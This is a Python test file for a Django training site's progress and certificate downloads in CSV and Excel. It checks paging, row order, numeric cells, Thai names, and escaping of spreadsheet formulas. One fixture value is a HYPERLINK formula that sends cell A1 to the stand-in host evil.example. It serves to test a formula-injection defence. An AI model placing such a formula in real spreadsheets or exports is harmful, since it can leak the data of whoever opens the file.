"""Downloads of the progress table and the certificate list: every row the page's filters and
search select (all pages, not one), in the page's order, with the page's values; names in any
script readable by Excel; nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from learning import services
from officers.models import User
from tests.coordination.downloaded import csv_rows, page_tables, xlsx_rows
from tests.coordination.test_paging import certify, crowd

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture
def crowded(course_tree, people, posts):
    """62 officers in the coordinator's scope over two pages (every third a Wichai), a few of
    them enrolled or done with a lesson; 10 at the Lao post outside it; all certified."""
    inside = crowd(posts, at="th", count=60) + [people["learner"], people["learner_kh"]]
    outside = crowd(posts, at="la", count=10, start=1000)
    for officer in inside[:5] + outside[:3]:
        services.enrolment_create(learner=officer, course=course_tree.course, actor=officer)
    services.lesson_open(learner=inside[0], lesson=course_tree.lessons[0])
    services.lesson_complete(learner=inside[0], lesson=course_tree.lessons[0])
    certify(inside + outside)
    return course_tree


def every_page(client, url, params) -> list[list[str]]:
    """The rows of the page's table, page after page, as their cells' text."""
    rows, number = [], 1
    while True:
        response = client.get(url, {**params, "page": number})
        listing = response.context["listing"]
        table = next(iter(page_tables(response).values()))
        rows += [r for r in table[1:] if len(r) > 1]
        if not listing.page.has_next():
            return rows
        number += 1


@pytest.mark.parametrize("search", ["", "Wichai"])
def test_progress_download_has_every_row_of_every_page(client, crowded, people, search):
    client.force_login(people["coordinator"])
    params = {"course": crowded.course.pk, "q": search}
    shown = every_page(client, reverse("coordination:progress"), params)
    assert len(shown) == (62 if not search else 20)
    for extension, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        response = client.get(reverse("coordination:progress_export", args=[extension]), params)
        today = timezone.localdate().isoformat()
        assert response["Content-Disposition"].endswith(
            f'filename="progress-tst-101-my-scope-{today}.{extension}"'
        )
        rows = read(response)
        assert rows[0][:7] == [
            "Officer", "Name (Latin letters)", "User name", "Service number", "Border post",
            "Agency", "Status",
        ]  # fmt: skip
        # Same officers, same order, same post and status; the page's name cell begins with
        # the officer's name.
        assert len(rows) - 1 == len(shown)
        for page_row, row in zip(shown, rows[1:], strict=True):
            assert page_row[0].startswith(row[0]), (page_row, row)
            assert page_row[1] == (row[4] or "\N{EM DASH}")
            assert page_row[3] == row[6]
        assert "Vientiane Friendship Bridge" not in {row[4] for row in rows}


def test_progress_download_numbers_stay_numbers(client, crowded, people):
    client.force_login(people["coordinator"])
    params = {"course": crowded.course.pk}
    rows = xlsx_rows(client.get(reverse("coordination:progress_export", args=["xlsx"]), params))
    done = [row for row in rows[1:] if row[6] == "In progress"]
    assert len(done) == 1
    # 1 of 4 lessons: the page's "25% · 1 of 4 steps", as numbers a spreadsheet can add.
    assert done[0][7:10] == [1, 4, 25]
    html = client.get(reverse("coordination:progress"), params).content.decode()
    assert "25% · 1 of 4 steps" in html
    not_enrolled = [row for row in rows[1:] if row[6] == "Not enrolled"]
    assert not_enrolled and all(row[7] is None for row in not_enrolled)


def test_a_formula_in_a_name_comes_out_as_text(client, course_tree, people, posts):
    """A name typed as a formula is exported as the text it is, in both files: the apostrophe
    makes Excel and LibreOffice show it rather than run it; the Thai name is intact."""
    User.objects.filter(pk=people["learner"].pk).update(
        full_name_latin=EVIL, service_number="+66-1234", agency=None
    )
    client.force_login(people["coordinator"])
    params = {"course": course_tree.course.pk, "q": "learner"}
    rows = csv_rows(client.get(reverse("coordination:progress_export", args=["csv"]), params))
    officer = next(row for row in rows if row[2] == "learner")
    assert officer[0] == "สมชาย ใจดี"
    assert officer[1] == "'" + EVIL
    assert officer[3] == "'+66-1234"
    response = client.get(reverse("coordination:progress_export", args=["xlsx"]), params)
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = {c.value: c for row in book.active.iter_rows(min_row=2) for c in row}
    assert "'" + EVIL in cells and cells["'" + EVIL].data_type == "s"
    assert not any(c.data_type == "f" for c in cells.values())


@pytest.mark.parametrize("search", ["", "Wichai"])
def test_certificate_download_has_every_certificate_the_list_shows(client, crowded, people, search):
    client.force_login(people["coordinator"])
    shown = every_page(client, reverse("certificates:coordinator"), {"q": search})
    assert len(shown) == (62 if not search else 20)
    for extension, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        url = reverse("coordination:certificates_export", args=[extension])
        rows = read(client.get(url, {"q": search}))
        assert [row[0] for row in rows[1:]] == [row[0] for row in shown]
        assert [row[5] for row in rows[1:]] == [row[3] for row in shown]
        assert all(str(row[6])[:10] == "2026-11-01" for row in rows[1:])
        assert {row[8] for row in rows[1:]} == {"Valid"}
